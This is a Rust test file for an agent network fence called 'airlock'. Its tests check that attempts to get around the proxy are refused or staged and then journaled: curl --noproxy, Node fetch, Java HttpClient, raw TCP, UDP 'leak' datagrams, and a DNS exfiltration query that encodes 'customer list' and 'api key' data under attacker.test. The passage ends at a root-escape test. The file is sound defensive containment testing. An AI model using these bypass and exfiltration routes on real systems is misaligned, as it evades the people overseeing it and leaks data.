//! Case C22 (docs/cases.md): `airlock run --network isolated|offline`, the fence. An agent
//! that walks around the proxy variables — `curl --noproxy`, Node 20's `fetch`, Java's
//! `HttpClient`, raw sockets, DNS, UDP, root tampering with the namespace — still reaches
//! the world only through airlock: writes are staged, unknown addresses and names are
//! refused and journaled, and nothing reaches a loopback origin on the host by any other
//! route. The client matrix (git, Python requests, pip, CONNECT) is in
//! `containment/clients.rs`; root unmounting the fence's `/proc` in `containment/escapes.rs`.
//!
//! Each test starts `airlock serve` (the `Airlock` fixture, `--resolve origin.test=127.0.0.1`)
//! and runs `airlock run --admin URL --token T --network MODE -- sh -c SCRIPT` with a clean
//! environment; the script writes what its clients saw to files in the workspace. The
//! origins listen on the host's 127.0.0.1, which inside the fence is not reachable: the
//! fence's 127.0.0.0/8 is its own loopback.

use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, OnceLock};

use airlock_tests::{airlock_bin, in_ci, ok_origin, Airlock, Fixture, Origin, TEST_HOST};
use serde_json::Value;

mod clients;
mod escapes;

/// The name the origins are reached by inside the fence: airlock's server answers it with
/// 127.0.0.1 (`--resolve`), and its DNS gives the fenced command a pool address for it.
const HOST: &str = TEST_HOST;

/// Shell words that drop every proxy variable for the client that follows (`env -u …`).
const NO_PROXY_VARIABLES: &str = "env -u HTTPS_PROXY -u https_proxy -u HTTP_PROXY -u http_proxy \
     -u ALL_PROXY -u all_proxy -u NO_PROXY -u no_proxy -u NODE_USE_ENV_PROXY";

/// A shell line that ends the script with 99 unless it runs in an isolated fence (only
/// `lo`, airlock's network mode): put before anything addressed to a non-loopback literal
/// IP, so such a packet can never leave the machine even if the fence were missing.
const FENCE_GUARD: &str = r#"[ "$AIRLOCK_NETWORK" = isolated ] && [ "$(ip -o link show | wc -l)" = 1 ] || { echo "not inside a fence" >&2; exit 99; }"#;

/// Whether this machine can make a fence, as `airlock run` does: `unshare`, `ip` and
/// `nft` on PATH, the namespaces (with a user namespace when not root) and an nftables
/// table inside them. `Err` names the missing piece.
fn fence_available() -> &'static Result<(), String> {
    static PROBE: OnceLock<Result<(), String>> = OnceLock::new();
    PROBE.get_or_init(|| {
        for (program, package) in [
            ("unshare", "util-linux"),
            ("ip", "iproute2"),
            ("nft", "nftables"),
        ] {
            let found = std::env::var_os("PATH").is_some_and(|paths| {
                std::env::split_paths(&paths).any(|dir| dir.join(program).is_file())
            });
            if !found {
                return Err(format!("`{program}` is not on PATH (install {package})"));
            }
        }
        let mut flags = vec!["--net", "--mount", "--pid", "--fork", "--mount-proc"];
        if !is_root() {
            flags.extend(["--user", "--map-root-user"]);
        }
        let out = Command::new("unshare")
            .args(&flags)
            .args([
                "sh",
                "-c",
                "ip link set lo up && nft add table inet airlock_probe",
            ])
            .output()
            .map_err(|e| format!("cannot run unshare: {e}"))?;
        if out.status.success() {
            Ok(())
        } else {
            Err(format!(
                "the kernel refused the namespaces or nftables inside them: {}",
                String::from_utf8_lossy(&out.stderr).trim()
            ))
        }
    })
}

/// The test process runs as root (the owner of `/proc/self` is the effective user).
fn is_root() -> bool {
    use std::os::unix::fs::MetadataExt as _;
    std::fs::metadata("/proc/self").is_ok_and(|m| m.uid() == 0)
}

/// `true` when a fence can be made; otherwise prints why and returns `false` — except
/// under CI, where `.ci/run` installs the tools, so a missing fence fails the test.
fn fence_or_skip(test: &str) -> bool {
    match fence_available() {
        Ok(()) => true,
        Err(why) => {
            assert!(!in_ci(), "{test} needs a fence in CI: {why}");
            eprintln!("SKIPPED {test}: no fence can be made here: {why}");
            false
        }
    }
}

/// Reads pass and writes stage on `HOST:port`; loopback allowed (the origin's real
/// address, from `--resolve`).
fn policy(port: u16) -> String {
    format!(
        r#"version = 1
default = "deny"
allow_private = ["127.0.0.0/8"]

[[rule]]
id = "reads"
host = "{HOST}"
port = {port}
method = "read"
action = "pass"

[[rule]]
id = "writes"
host = "{HOST}"
port = {port}
method = "write"
action = "stage"
"#
    )
}

/// A running server, its fixture and a workspace, for fenced runs.
struct Fenced {
    fx: Fixture,
    airlock: Airlock,
    ws: PathBuf,
    token: String,
}

/// What one `airlock run` gave: its output and its JSON report.
struct Ran {
    out: Output,
    report: Value,
}

impl Ran {
    /// The run's id.
    fn run(&self) -> String {
        self.report["run"].as_str().expect("run id").to_owned()
    }

    /// The report's containment (the fence's record of the command step).
    fn containment(&self) -> &Value {
        &self.report["containment"]
    }

    /// airlock's and the command's stderr.
    fn stderr(&self) -> String {
        String::from_utf8_lossy(&self.out.stderr).into_owned()
    }

    /// Panics with the stderr and the report unless `airlock run` exited 0.
    fn assert_success(&self) {
        assert!(
            self.out.status.success(),
            "airlock run failed ({}): {}\n{:#}",
            self.out.status,
            self.stderr(),
            self.report
        );
    }

    /// A count of the containment record.
    fn count(&self, key: &str) -> u64 {
        self.containment()[key]
            .as_u64()
            .unwrap_or_else(|| panic!("containment has no {key}: {:#}", self.report))
    }
}

impl Fenced {
    /// Starts airlock with `policy`, answering [`HOST`] with 127.0.0.1.
    fn start(fx: Fixture, policy: &str) -> Self {
        let resolve = format!("{HOST}=127.0.0.1");
        let airlock = fx.start(policy, &["--resolve", &resolve]);
        let token = std::fs::read_to_string(fx.data_dir().join("admin.token"))
            .expect("admin token")
            .trim()
            .to_owned();
        let ws = fx.dir.path().join("ws");
        std::fs::create_dir_all(&ws).expect("workspace");
        std::fs::create_dir_all(fx.dir.path().join("home")).expect("home");
        Self {
            fx,
            airlock,
            ws,
            token,
        }
    }

    /// Writes a helper file (a client script) outside the workspace; returns its path.
    fn helper(&self, name: &str, text: &str) -> PathBuf {
        let dir = self.fx.dir.path().join("helpers");
        std::fs::create_dir_all(&dir).expect("helpers dir");
        let path = dir.join(name);
        std::fs::write(&path, text).expect("write helper");
        path
    }

    /// `airlock run --json --network NETWORK [ARGS] -- sh -c SCRIPT` against the server
    /// (no `--network` when `network` is empty: airlock's default), in the workspace, with
    /// only PATH, LANG and a private HOME from the test's environment (nothing of the
    /// test's may route or configure the clients).
    async fn run(&self, network: &str, args: &[&str], script: &str) -> Ran {
        let mut command = Command::new(airlock_bin());
        command
            .env_clear()
            .env("PATH", std::env::var_os("PATH").unwrap_or_default())
            .env("LANG", "C.UTF-8")
            .env("HOME", self.fx.dir.path().join("home"))
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .env("GIT_TERMINAL_PROMPT", "0")
            .env("PIP_CONFIG_FILE", "/dev/null")
            .env("PIP_DISABLE_PIP_VERSION_CHECK", "1")
            .args(["run", "--json", "--admin", &self.airlock.admin_url])
            .args(["--token", &self.token])
            .args(if network.is_empty() {
                vec![]
            } else {
                vec!["--network", network]
            })
            .arg("--workspace")
            .arg(&self.ws)
            .args(args)
            .args(["--", "sh", "-c", script])
            .stdin(Stdio::null());
        let out = tokio::task::spawn_blocking(move || command.output().expect("run airlock"))
            .await
            .expect("airlock run task");
        let report = serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
            panic!(
                "airlock run printed no JSON report ({e}): {}\nstderr: {}",
                String::from_utf8_lossy(&out.stdout),
                String::from_utf8_lossy(&out.stderr)
            )
        });
        Ran { out, report }
    }

    /// A file the script wrote in the workspace, trimmed (empty when it is missing).
    fn read(&self, name: &str) -> String {
        std::fs::read_to_string(self.ws.join(name))
            .unwrap_or_default()
            .trim()
            .to_owned()
    }

    /// A JSON file the script wrote in the workspace.
    fn json(&self, name: &str, ran: &Ran) -> Value {
        let text = self.read(name);
        serde_json::from_str(&text).unwrap_or_else(|e| {
            panic!(
                "{name} is not JSON ({e}): {text:?}\nstderr: {}",
                ran.stderr()
            )
        })
    }

    /// The run's denials, in journal order.
    async fn denials(&self, run: &str) -> Vec<Value> {
        let list = self
            .airlock
            .admin
            .get(&format!("/v1/runs/{run}/denials"))
            .await
            .expect("denials");
        list["denials"].as_array().cloned().unwrap_or_default()
    }

    /// The run's workspace record (`GET /v1/runs/{id}/workspace`).
    async fn workspace(&self, run: &str) -> Value {
        self.airlock
            .admin
            .get(&format!("/v1/runs/{run}/workspace"))
            .await
            .expect("workspace record")
    }
}

/// The denial of `denials` with this method and URL (panics, listing them, when none).
fn denial<'a>(denials: &'a [Value], method: &str, url: &str) -> &'a Value {
    denials
        .iter()
        .find(|d| d["method"] == method && d["url"] == url)
        .unwrap_or_else(|| panic!("no denial {method} {url} journaled: {denials:#?}"))
}

/// The requests `origin` received as `METHOD PATH`.
fn requests(origin: &Origin) -> Vec<String> {
    origin
        .received()
        .iter()
        .map(|r| format!("{} {}", r.method, r.path))
        .collect()
}

/// A raw TCP listener on the host's 127.0.0.1 that counts connections and greets each
/// with a banner (so a client that reached it would see `RAW-ORIGIN`).
async fn raw_listener() -> (u16, Arc<AtomicUsize>) {
    use tokio::io::AsyncWriteExt as _;
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0")
        .await
        .expect("bind raw listener");
    let port = listener.local_addr().expect("addr").port();
    let accepted = Arc::new(AtomicUsize::new(0));
    let counter = accepted.clone();
    tokio::spawn(async move {
        while let Ok((mut stream, _)) = listener.accept().await {
            counter.fetch_add(1, Ordering::SeqCst);
            let _ = stream.write_all(b"RAW-ORIGIN banner\r\n").await;
        }
    });
    (port, accepted)
}

/// A UDP socket on the host's 127.0.0.1 that counts datagrams.
async fn udp_listener() -> (u16, Arc<AtomicUsize>) {
    let socket = tokio::net::UdpSocket::bind("127.0.0.1:0")
        .await
        .expect("bind udp listener");
    let port = socket.local_addr().expect("addr").port();
    let received = Arc::new(AtomicUsize::new(0));
    let counter = received.clone();
    tokio::spawn(async move {
        let mut buffer = [0u8; 2048];
        while socket.recv_from(&mut buffer).await.is_ok() {
            counter.fetch_add(1, Ordering::SeqCst);
        }
    });
    (port, received)
}

/// `/usr/bin/node`'s version when it is Node 20, whose `fetch` ignores the proxy
/// variables (`NODE_USE_ENV_PROXY` arrived in 24 and 22.21). `None`, with a message,
/// when it is missing or another version outside CI; under CI either fails.
fn node20(test: &str) -> Option<String> {
    let node = Path::new("/usr/bin/node");
    let version = Command::new(node)
        .arg("--version")
        .output()
        .ok()
        .filter(|o| o.status.success())
        .map(|o| String::from_utf8_lossy(&o.stdout).trim().to_owned());
    match version {
        Some(version) if version.starts_with("v20.") => Some(version),
        other => {
            let found = other.unwrap_or_else(|| "no /usr/bin/node".to_owned());
            assert!(
                !in_ci(),
                "{test} needs the machine's Node 20 at /usr/bin/node in CI: found {found}"
            );
            eprintln!(
                "SKIPPED {test}: it drives the machine's Node 20 at /usr/bin/node (a fetch that \
                 ignores proxy variables); found {found}"
            );
            None
        }
    }
}

/// Node 20's `fetch`: POSTs `argv[2]` and writes `{status, body}` to `argv[3]`, with the
/// proxy variables it could see.
const NODE_CLIENT: &str = r#"
const fs = require('fs');
const [url, out] = process.argv.slice(2);
const proxyVariables = Object.keys(process.env).filter(k => /proxy/i.test(k));
fetch(url, { method: 'POST', body: 'from node 20', headers: { 'content-type': 'text/plain' } })
  .then(async r => {
    const body = await r.json();
    fs.writeFileSync(out, JSON.stringify({ status: r.status, body, proxyVariables, node: process.version }));
  })
  .catch(e => { console.error('node fetch failed:', e, e.cause); process.exit(2); });
"#;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn case_c22_node20_fetch_without_proxy_variables_is_captured_and_staged() {
    let test = "case_c22_node20_fetch_without_proxy_variables_is_captured_and_staged";
    if !fence_or_skip(test) {
        return;
    }
    let Some(version) = node20(test) else { return };
    eprintln!("{test}: /usr/bin/node {version}");
    let fx = Fixture::new();
    let origin = ok_origin(&fx.origin_ca).await;
    let port = origin.addr().port();
    let fenced = Fenced::start(fx, &policy(port));
    let client = fenced.helper("fetch.js", NODE_CLIENT);
    let script = format!(
        "{NO_PROXY_VARIABLES} /usr/bin/node {} https://{HOST}:{port}/hook node.json",
        client.display()
    );
    let ran = fenced.run("isolated", &[], &script).await;
    ran.assert_success();
    let node = fenced.json("node.json", &ran);
    assert_eq!(node["status"], 202, "{node:#}");
    assert_eq!(node["body"]["status"], "staged", "{node:#}");
    assert_eq!(
        node["proxyVariables"],
        serde_json::json!([]),
        "node ran with no proxy variable at all"
    );
    assert_eq!(ran.containment()["network"], "isolated");
    assert!(ran.count("connections_captured") >= 1, "{:#}", ran.report);
    assert_eq!(ran.count("proxy_connections"), 0, "{:#}", ran.report);
    assert!(ran.count("dns_answered") >= 1, "{:#}", ran.report);
    let effects = ran.report["effects"].as_array().expect("effects");
    assert_eq!(effects.len(), 1, "{:#}", ran.report);
    assert_eq!(effects[0]["state"], "staged");
    assert_eq!(effects[0]["url"], format!("https://{HOST}:{port}/hook"));
    assert!(
        origin.received().is_empty(),
        "staged: the origin got nothing"
    );

    let run = ran.run();
    for _ in 0..2 {
        let report = fenced.airlock.commit_pending(&run).await;
        assert_eq!(report["state"], "committed", "{report:#}");
    }
    let received = origin.received();
    assert_eq!(
        received.len(),
        1,
        "released exactly once: {:?}",
        requests(&origin)
    );
    assert_eq!(
        (received[0].method.as_str(), received[0].path.as_str()),
        ("POST", "/hook")
    );
    assert_eq!(received[0].body, b"from node 20");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn case_c22_curl_noproxy_by_name_is_staged_and_by_literal_ip_is_refused() {
    let test = "case_c22_curl_noproxy_by_name_is_staged_and_by_literal_ip_is_refused";
    if !fence_or_skip(test) {
        return;
    }
    let fx = Fixture::new();
    let origin = ok_origin(&fx.origin_ca).await;
    let port = origin.addr().port();
    let fenced = Fenced::start(fx, &policy(port));
    // 1.2.3.4 is never dialed: inside the fence the connection is captured by airlock,
    // which refuses an address its DNS never gave (the guard stops the script otherwise).
    let script = format!(
        "env -u HTTPS_PROXY -u https_proxy curl --noproxy '*' -sS -o by-name.json -w '%{{http_code}}' \
           -X POST --data from-curl https://{HOST}:{port}/hook > by-name.code; \
         {FENCE_GUARD}; \
         env -u HTTPS_PROXY -u https_proxy curl --noproxy '*' -sS -o by-ip.json -w '%{{http_code}}' \
           -X POST --data to-an-ip https://1.2.3.4:{port}/hook > by-ip.code"
    );
    let ran = fenced.run("isolated", &[], &script).await;
    ran.assert_success();
    assert_eq!(fenced.read("by-name.code"), "202", "{}", ran.stderr());
    assert_eq!(fenced.json("by-name.json", &ran)["status"], "staged");
    assert_eq!(fenced.read("by-ip.code"), "403", "{}", ran.stderr());
    let refused = fenced.json("by-ip.json", &ran);
    assert_eq!(refused["reason_code"], "unresolved_address", "{refused:#}");
    assert!(
        refused["reason"]
            .as_str()
            .is_some_and(|r| r.contains(&format!("1.2.3.4:{port}"))),
        "the reason names the address: {refused:#}"
    );
    let denials = fenced.denials(&ran.run()).await;
    let journaled = denial(&denials, "CONNECT", &format!("tcp://1.2.3.4:{port}"));
    assert_eq!(journaled["reason_code"], "unresolved_address");
    assert!(ran.count("connections_refused") >= 1, "{:#}", ran.report);
    assert!(ran.count("connections_captured") >= 1, "{:#}", ran.report);
    assert_eq!(ran.count("proxy_connections"), 0, "{:#}", ran.report);
    let effects = ran.report["effects"].as_array().expect("effects");
    assert_eq!(
        effects.len(),
        1,
        "only the POST by name is staged: {effects:#?}"
    );
    assert_eq!(effects[0]["url"], format!("https://{HOST}:{port}/hook"));
    assert!(origin.received().is_empty());

    let report = fenced.airlock.commit_pending(&ran.run()).await;
    assert_eq!(report["state"], "committed", "{report:#}");
    let received = origin.received();
    assert_eq!(received.len(), 1, "{:?}", requests(&origin));
    assert_eq!(
        received[0].body, b"from-curl",
        "the refused POST never left"
    );
}

/// A Java 11+ `HttpClient` with no proxy and no truststore of its own: GETs `ARG/read`
/// (must pass: 200) and POSTs `ARG/hook` (must be staged: 202), then writes what it saw.
const JAVA_CLIENT: &str = r#"
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.file.Files;
import java.nio.file.Path;

public class Client {
    public static void main(String[] args) throws Exception {
        HttpClient client = HttpClient.newHttpClient();
        HttpResponse<String> read = client.send(
            HttpRequest.newBuilder(URI.create(args[0] + "/read")).GET().build(),
            HttpResponse.BodyHandlers.ofString());
        HttpResponse<String> posted = client.send(
            HttpRequest.newBuilder(URI.create(args[0] + "/hook"))
                .header("content-type", "text/plain")
                .POST(HttpRequest.BodyPublishers.ofString("from java"))
                .build(),
            HttpResponse.BodyHandlers.ofString());
        String proxy = System.getProperty("https.proxyHost") + "," + System.getProperty("http.proxyUser");
        Files.writeString(Path.of("java.txt"),
            read.statusCode() + "\n" + posted.statusCode() + "\n" + proxy + "\n"
            + System.getProperty("javax.net.ssl.trustStore") + "\n");
    }
}
"#;

/// Whether `javac` and `java` can run; skips outside CI with a message when not.
fn jdk_or_skip(test: &str) -> bool {
    let works = |program: &str| {
        Command::new(program)
            .arg("-version")
            .output()
            .is_ok_and(|o| o.status.success())
    };
    if works("javac") && works("java") {
        return true;
    }
    assert!(
        !in_ci(),
        "{test} needs a JDK in CI (.ci/run installs default-jdk-headless)"
    );
    eprintln!("SKIPPED {test}: no JDK (javac and java; apt-get install default-jdk-headless)");
    false
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn case_c22_java_httpclient_with_no_proxy_settings_reads_pass_and_writes_stage() {
    let test = "case_c22_java_httpclient_with_no_proxy_settings_reads_pass_and_writes_stage";
    if !fence_or_skip(test) || !jdk_or_skip(test) {
        return;
    }
    let fx = Fixture::new();
    let origin = ok_origin(&fx.origin_ca).await;
    let port = origin.addr().port();
    let fenced = Fenced::start(fx, &policy(port));
    let source = fenced.helper("Client.java", JAVA_CLIENT);
    let script = format!("java {} https://{HOST}:{port}", source.display());
    let ran = fenced.run("isolated", &[], &script).await;
    ran.assert_success();
    let lines: Vec<String> = fenced.read("java.txt").lines().map(str::to_owned).collect();
    assert_eq!(lines.len(), 4, "java.txt: {lines:?}\n{}", ran.stderr());
    assert_eq!(lines[0], "200", "the GET passed");
    assert_eq!(lines[1], "202", "the POST was staged");
    assert_eq!(lines[2], "null,null", "Java had no proxy settings");
    assert!(
        lines[3].ends_with("truststore.p12") && lines[3].contains("airlock-fence-"),
        "trust came from the fence's JAVA_TOOL_OPTIONS: {}",
        lines[3]
    );
    assert_eq!(ran.count("proxy_connections"), 0, "{:#}", ran.report);
    assert!(ran.count("connections_captured") >= 1, "{:#}", ran.report);
    assert_eq!(requests(&origin), vec!["GET /read".to_owned()]);
    let effects = ran.report["effects"].as_array().expect("effects");
    assert_eq!(effects.len(), 1, "{effects:#?}");
    assert_eq!(effects[0]["method"], "POST");

    let report = fenced.airlock.commit_pending(&ran.run()).await;
    assert_eq!(report["state"], "committed", "{report:#}");
    assert_eq!(
        requests(&origin),
        vec!["GET /read".to_owned(), "POST /hook".to_owned()],
        "the POST was released once, after commit"
    );
    assert_eq!(origin.received()[1].body, b"from java");
}

/// A raw TCP client: connects to `argv[1]:argv[2]`, sends an SSH banner, reads until the
/// connection closes, and writes `{connected, received, closed}` or `{error}` to `argv[3]`.
const RAW_CLIENT: &str = r#"
import json, socket, sys
host, port, out = sys.argv[1], int(sys.argv[2]), sys.argv[3]
try:
    s = socket.create_connection((host, port), timeout=20)
    s.sendall(b"SSH-2.0-agent\r\n")
    got = b""
    while True:
        chunk = s.recv(4096)
        if not chunk:
            break
        got += chunk
    result = {"connected": True, "received": got.decode("latin-1"), "closed": True}
except OSError as e:
    result = {"connected": False, "error": type(e).__name__, "errno": e.errno}
json.dump(result, open(out, "w"))
"#;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn case_c22_raw_tcp_to_a_port_no_rule_names_is_refused_and_journaled() {
    let test = "case_c22_raw_tcp_to_a_port_no_rule_names_is_refused_and_journaled";
    if !fence_or_skip(test) {
        return;
    }
    let fx = Fixture::new();
    let origin = ok_origin(&fx.origin_ca).await;
    let (raw_port, accepted) = raw_listener().await;
    let fenced = Fenced::start(fx, &policy(origin.addr().port()));
    let client = fenced.helper("raw.py", RAW_CLIENT);
    let client = client.display();
    // The name is allowed on the origin's port only; the raw listener's port is named by
    // no rule. The same port on 127.0.0.1 is the fence's own loopback.
    let script = format!(
        "python3 {client} {HOST} {raw_port} by-name.json; \
         python3 {client} 127.0.0.1 {raw_port} loopback.json"
    );
    let ran = fenced.run("isolated", &[], &script).await;
    ran.assert_success();
    let by_name = fenced.json("by-name.json", &ran);
    assert_eq!(by_name["connected"], true, "{by_name:#}");
    assert_eq!(by_name["closed"], true, "airlock closed the connection");
    assert!(
        !by_name["received"]
            .as_str()
            .unwrap_or_default()
            .contains("RAW-ORIGIN"),
        "the client never reached the listener: {by_name:#}"
    );
    let loopback = fenced.json("loopback.json", &ran);
    assert_eq!(
        loopback["error"], "ConnectionRefusedError",
        "127.0.0.1 in the fence is the fence's own: {loopback:#}"
    );
    assert_eq!(
        accepted.load(Ordering::SeqCst),
        0,
        "the raw listener saw nothing"
    );
    let denials = fenced.denials(&ran.run()).await;
    let journaled = denial(&denials, "CONNECT", &format!("https://{HOST}:{raw_port}"));
    assert_eq!(journaled["reason_code"], "default_deny", "{journaled:#}");
    assert!(ran.count("connections_refused") >= 1, "{:#}", ran.report);
    assert!(origin.received().is_empty());
}

/// Raw DNS over UDP to airlock's DNS in the fence (127.0.0.1:53): each query of the JSON
/// list `argv[1]` (`[name, type, class]`) and its answer (`rcode`, A addresses) go to
/// `argv[2]`. Labels are written as given, so a label may be longer than DNS allows.
const DNS_CLIENT: &str = r#"
import json, random, socket, struct, sys

def skip_name(data, i):
    while data[i] != 0:
        if data[i] & 0xC0 == 0xC0:
            return i + 2
        i += data[i] + 1
    return i + 1

def query(name, qtype, qclass):
    qid = random.randrange(65536)
    qname = b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0"
    packet = struct.pack(">HHHHHH", qid, 0x0100, 1, 0, 0, 0) + qname + struct.pack(">HH", qtype, qclass)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(10)
    s.sendto(packet, ("127.0.0.1", 53))
    data, _ = s.recvfrom(4096)
    rid, flags, qd, an, _, _ = struct.unpack(">HHHHHH", data[:12])
    i = 12
    for _ in range(qd):
        i = skip_name(data, i) + 4
    answers = []
    for _ in range(an):
        i = skip_name(data, i)
        rtype, _, ttl, length = struct.unpack(">HHIH", data[i:i + 10])
        i += 10
        if rtype == 1:
            answers.append(socket.inet_ntoa(data[i:i + length]))
        i += length
    return {"name": name, "type": qtype, "id_matches": rid == qid, "rcode": flags & 0xF, "answers": answers}

json.dump([query(*q) for q in json.loads(sys.argv[1])], open(sys.argv[2], "w"))
"#;

/// A 63-byte label (the most DNS allows) carrying hex "data".
fn exfil_label(seed: &str) -> String {
    seed.bytes()
        .map(|b| format!("{b:02x}"))
        .collect::<String>()
        .chars()
        .cycle()
        .take(63)
        .collect()
}

const TYPE_A: u16 = 1;
const TYPE_AAAA: u16 = 28;
const TYPE_TXT: u16 = 16;
const RCODE_NOERROR: u64 = 0;
const RCODE_NXDOMAIN: u64 = 3;
const RCODE_REFUSED: u64 = 5;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn case_c22_dns_nxdomain_for_names_no_rule_allows_and_refused_for_txt_journaled() {
    let test = "case_c22_dns_nxdomain_for_names_no_rule_allows_and_refused_for_txt_journaled";
    if !fence_or_skip(test) {
        return;
    }
    let fx = Fixture::new();
    let origin = ok_origin(&fx.origin_ca).await;
    let fenced = Fenced::start(fx, &policy(origin.addr().port()));
    let client = fenced.helper("dns.py", DNS_CLIENT);
    let exfil = format!(
        "{}.{}.attacker.test",
        exfil_label("customer list, row 1"),
        exfil_label("api key sk-live")
    );
    let queries = serde_json::json!([
        [HOST, TYPE_A, 1],
        [HOST, TYPE_AAAA, 1],
        ["unlisted.example", TYPE_A, 1],
        [HOST, TYPE_TXT, 1],
        [exfil, TYPE_A, 1],
    ]);
    let script = format!(
        "python3 {} '{queries}' dns.json; \
         curl --noproxy '*' -sS --max-time 20 https://unlisted.example/ 2> curl.err; echo $? > curl.code",
        client.display()
    );
    let ran = fenced.run("isolated", &[], &script).await;
    ran.assert_success();
    let answers = fenced.json("dns.json", &ran);
    let answer = |i: usize| &answers[i];
    for i in 0..5 {
        assert_eq!(answer(i)["id_matches"], true, "{:#}", answer(i));
    }
    assert_eq!(answer(0)["rcode"], RCODE_NOERROR, "{:#}", answer(0));
    let pool = answer(0)["answers"][0].as_str().expect("an A answer");
    let pool: std::net::Ipv4Addr = pool.parse().expect("an IPv4 address");
    assert_eq!(
        u32::from(pool) >> 17,
        u32::from(std::net::Ipv4Addr::new(198, 18, 0, 0)) >> 17,
        "the answer is in 198.18.0.0/15: {pool}"
    );
    assert_eq!(answer(1)["rcode"], RCODE_NOERROR, "AAAA: no data");
    assert_eq!(answer(1)["answers"], serde_json::json!([]));
    assert_eq!(answer(2)["rcode"], RCODE_NXDOMAIN, "{:#}", answer(2));
    assert_eq!(answer(3)["rcode"], RCODE_REFUSED, "TXT: {:#}", answer(3));
    assert_eq!(answer(4)["rcode"], RCODE_NXDOMAIN, "exfil: {:#}", answer(4));
    for i in 2..5 {
        assert_eq!(answer(i)["answers"], serde_json::json!([]));
    }
    assert_eq!(
        fenced.read("curl.code"),
        "6",
        "curl: could not resolve host"
    );
    assert!(
        fenced.read("curl.err").contains("Could not resolve host"),
        "{}",
        fenced.read("curl.err")
    );

    let denials = fenced.denials(&ran.run()).await;
    let unlisted = denial(&denials, "DNS", "dns:unlisted.example?type=A");
    assert_eq!(unlisted["reason_code"], "default_deny");
    let txt = denial(&denials, "DNS", &format!("dns:{HOST}?type=TXT"));
    assert_eq!(txt["reason_code"], "dns_refused");
    let leaked = denial(&denials, "DNS", &format!("dns:{exfil}?type=A"));
    assert_eq!(
        leaked["reason_code"], "default_deny",
        "the reviewer sees what the run tried to look up"
    );
    assert!(ran.count("dns_refused") >= 3, "{:#}", ran.report);
    assert!(ran.count("dns_answered") >= 2, "{:#}", ran.report);
    assert!(origin.received().is_empty());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn case_c22_dns_names_past_rfc1035_limits_are_refused_and_journaled() {
    let test = "case_c22_dns_names_past_rfc1035_limits_are_refused_and_journaled";
    if !fence_or_skip(test) {
        return;
    }
    let fx = Fixture::new();
    let origin = ok_origin(&fx.origin_ca).await;
    let fenced = Fenced::start(fx, &policy(origin.addr().port()));
    let client = fenced.helper("dns.py", DNS_CLIENT);
    // One label of 64 bytes carrying "data", and a 259-byte name of legal labels.
    let long_label = format!("{}.attacker.test", "6b".repeat(32));
    let long_name = format!("{}attacker.test", format!("{}.", "a".repeat(62)).repeat(4));
    assert!(long_name.len() > 253);
    let queries = serde_json::json!([[long_label, TYPE_A, 1], [long_name, TYPE_A, 1]]);
    let script = format!("python3 {} '{queries}' dns.json", client.display());
    let ran = fenced.run("isolated", &[], &script).await;
    ran.assert_success();
    let answers = fenced.json("dns.json", &ran);
    let denials = fenced.denials(&ran.run()).await;
    for (i, name) in [&long_label, &long_name].into_iter().enumerate() {
        assert_eq!(
            answers[i]["rcode"], RCODE_REFUSED,
            "{name}: REFUSED (docs: a label past 63 bytes or a name past 253 is refused): {:#}",
            answers[i]
        );
        let journaled = denial(&denials, "DNS", &format!("dns:{name}?type=A"));
        assert_eq!(journaled["reason_code"], "dns_refused", "{journaled:#}");
    }
}

/// UDP from the fence: a connected socket to each `name:port` or `ip:port` target of
/// `argv[2..]` sends a datagram and waits 1 s for an answer; each outcome goes to
/// `argv[1]` as `{target: "answer" | "ExceptionName:errno"}`.
const UDP_CLIENT: &str = r#"
import json, socket, sys
out = {}
for target in sys.argv[2:]:
    host, port = target.rsplit(":", 1)
    try:
        address = socket.gethostbyname(host)
    except OSError as e:
        out[target] = "resolve:" + str(e)
        continue
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(1)
    try:
        s.connect((address, int(port)))
        s.send(b"leak")
        s.recv(100)
        out[target] = "answer"
    except OSError as e:
        out[target] = f"{type(e).__name__}:{e.errno}"
    try:
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"leak", (address, int(port)))
        out[target + " sendto"] = "sent"
    except OSError as e:
        out[target + " sendto"] = f"{type(e).__name__}:{e.errno}"
json.dump(out, open(sys.argv[1], "w"))
"#;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn case_c22_udp_to_anything_but_airlocks_dns_is_dropped() {
    let test = "case_c22_udp_to_anything_but_airlocks_dns_is_dropped";
    if !fence_or_skip(test) {
        return;
    }
    let fx = Fixture::new();
    let origin = ok_origin(&fx.origin_ca).await;
    let (udp_port, datagrams) = udp_listener().await;
    let fenced = Fenced::start(fx, &policy(origin.addr().port()));
    let client = fenced.helper("udp.py", UDP_CLIENT);
    let pool_target = format!("{HOST}:{udp_port}");
    let loopback_target = format!("127.0.0.1:{udp_port}");
    let script = format!(
        "python3 {} udp.json {pool_target} {loopback_target}",
        client.display()
    );
    let ran = fenced.run("isolated", &[], &script).await;
    ran.assert_success();
    let out = fenced.json("udp.json", &ran);
    // To the pool address of an allowed name: the fence's nftables rejects it at once.
    assert_eq!(out[&pool_target], "PermissionError:1", "{out:#}");
    assert_eq!(out[format!("{pool_target} sendto")], "PermissionError:1");
    // To 127.0.0.1: the fence's own loopback, where nothing listens on that port.
    let loopback = out[&loopback_target].as_str().unwrap_or_default();
    assert!(
        loopback == "ConnectionRefusedError:111" || loopback.starts_with("TimeoutError"),
        "{out:#}"
    );
    assert_eq!(
        datagrams.load(Ordering::SeqCst),
        0,
        "the host's UDP listener received nothing"
    );
    assert!(origin.received().is_empty());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn case_c22_root_in_the_fence_flushing_nftables_adding_routes_or_killing_pid_1_reaches_nothing(
) {
